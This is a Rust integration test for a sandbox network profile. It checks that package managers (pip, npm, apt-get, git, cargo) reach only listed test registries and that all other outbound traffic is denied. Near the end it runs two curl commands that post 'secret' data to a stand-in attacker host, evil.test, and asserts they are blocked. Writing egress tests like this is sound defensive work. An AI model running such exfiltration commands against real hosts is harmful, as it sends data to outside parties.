//! The profile `packages`: people's own tools get packages from the registries that the operator lists, and nothing goes anywhere else.

use std::path::Path;
use std::process::Command;

use belljar_client::{AskedLimits, CreateSandbox};
use belljar_testkit::block_on;
use belljar_types::SandboxId;
use serde_json::{Value, json};

use crate::internet;
use crate::scene::{CLASSES, Scene};

const SETTINGS: &str = "[network.sets]\nregistries = [\"python.registry.test\", \"node.registry.test\", \"debian.registry.test\", \"repository.registry.test\", \"cargo.registry.test\"]";

/// What each tool does, and what the package says of itself then.
const TOOLS: [(&str, &str, &str); 5] = [
    (
        "pip",
        "pip install --timeout 10 --retries 0 --index-url https://python.registry.test/simple parcel && python3 -c 'import parcel; print(parcel.NAME)'",
        "a parcel for python",
    ),
    (
        "npm",
        "mkdir -p /tmp/npm && cd /tmp/npm && npm install --silent --fetch-retries 0 --registry https://node.registry.test parcel && node -e 'console.log(require(\"parcel\"))'",
        "a parcel for node",
    ),
    (
        "apt-get",
        "echo 'deb [trusted=yes] https://debian.registry.test/ ./' | sudo tee /etc/apt/lab.list >/dev/null; \
         apt() { sudo apt-get -q -o Acquire::Retries=0 -o Dir::Etc::sourcelist=/etc/apt/lab.list -o Dir::Etc::sourceparts=- -o APT::Update::Error-Mode=any \"$@\" >&2; }; \
         apt update && apt install -y parcel && parcel",
        "a parcel for debian",
    ),
    (
        "git",
        "rm -rf /tmp/git && git clone --quiet https://repository.registry.test/parcel.git /tmp/git && cat /tmp/git/README",
        "a parcel from git",
    ),
    (
        "cargo",
        "export PATH=/tmp/rust/bin:$PATH CARGO_HOME=/tmp/cargo CARGO_NET_RETRY=0 CARGO_HTTP_CAINFO=/etc/ssl/certs/ca-certificates.crt \
         CARGO_REGISTRIES_LAB_INDEX=sparse+https://cargo.registry.test/index/; \
         mkdir -p /tmp/uses/src && cd /tmp/uses && printf '[package]\\nname = \"uses\"\\nversion = \"0.1.0\"\\nedition = \"2021\"\\n[dependencies]\\nparcel = { version = \"1\", registry = \"lab\" }\\n' > Cargo.toml && \
         echo 'fn main() { println!(\"{}\", parcel::NAME); }' > src/main.rs && cargo build --quiet && target/debug/uses",
        "a parcel for cargo",
    ),
];

/// This machine's compiler, without what nobody needs to build a program.
fn compiler(place: &Path) -> std::path::PathBuf {
    let root = Command::new("rustc").args(["--print", "sysroot"]).output().unwrap().stdout;
    let (root, packed) = (String::from_utf8(root).unwrap(), place.join("rust.tar"));
    let library = "lib/rustlib/x86_64-unknown-linux-gnu";
    let mut tar = Command::new("tar");
    tar.args(["-C", root.trim(), "-cf"]).arg(&packed);
    let parts = std::fs::read_dir(Path::new(root.trim()).join("lib")).unwrap().flatten().map(|entry| entry.file_name());
    let libraries = parts.filter(|name| name != "rustlib").map(|name| Path::new("lib").join(name));
    let status = tar.args(["bin/cargo", "bin/rustc", library]).args(libraries).status().unwrap();
    assert!(status.success(), "this machine's compiler can be packed");
    packed
}

async fn create(scene: &Scene, class: &str, policy: Value) -> SandboxId {
    let limits = AskedLimits { memory_bytes: Some(2 << 30), disk_bytes: Some(3 << 30), ..AskedLimits::default() };
    let request = CreateSandbox { isolation: Some(class.to_owned()), policy: Some(policy), limits, ..CreateSandbox::default() };
    scene.client.create_sandbox(&request, None).await.unwrap_or_else(|error| panic!("{class}: {error:?}")).id
}

/// Trusts the internet's authority, as an image of the operator's would, and has a compiler.
async fn furnish(scene: &Scene, sandbox: &SandboxId, compiler: &Path) {
    let to = format!("{sandbox}:/tmp/rust.tar");
    scene.cli(&["cp", compiler.to_str().unwrap(), &to], "");
    let script = format!(
        "set -e; mkdir /tmp/rust; tar -C /tmp/rust -xf /tmp/rust.tar; rm /tmp/rust.tar\n\
         echo '{}' | sudo tee /usr/local/share/ca-certificates/lab.crt >/dev/null; sudo update-ca-certificates >/dev/null 2>&1",
        internet::authority().pem
    );
    let told = scene.shell(sandbox, &script).await;
    assert_eq!(told.code, 0, "{told}");
}

#[test]
fn package_managers_work_and_nothing_else_does() {
    block_on(async {
        let scene = Scene::open_with(SETTINGS).await;
        let place = tempfile::tempdir().unwrap();
        let compiler = compiler(place.path());
        for class in CLASSES {
            let offline = create(&scene, class, json!("offline")).await;
            for (tool, script, _) in &TOOLS[..4] {
                assert_ne!(scene.shell(&offline, script).await.code, 0, "{class}: {tool} without a network");
            }
            assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}");
            scene.kill(&offline).await;

            let sandbox = create(&scene, class, json!("packages")).await;
            furnish(&scene, &sandbox, &compiler).await;
            for (tool, script, says) in TOOLS {
                let told = scene.shell(&sandbox, script).await;
                assert!(told.code == 0 && told.stdout.trim_end().ends_with(says), "{class}: {tool}: {told}\n{}", scene.server.last_words());
                let seen = scene.internet.seen();
                assert!(seen.iter().any(|line| line.contains(".registry.test")), "{class}: {tool}: it was not on the machine: {seen:?}");
            }
            let post = "curl --silent --show-error --max-time 10 --data secret https://evil.test/";
            let told = scene.shell(&sandbox, post).await;
            assert_ne!(told.code, 0, "{class}: {told}");
            let proxied = "curl --verbose --silent --max-time 10 --data secret --proxy http://$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf):3128 https://evil.test/ 2>&1";
            let told = scene.shell(&sandbox, proxied).await;
            assert_ne!(told.code, 0, "{class}: {told}");
            assert!(told.stdout.contains("denied by network.default: no rule is about this destination"), "{class}: {told}");
            assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}: nobody outside heard of it");
            scene.kill(&sandbox).await;
        }
        scene.close();
    });
}
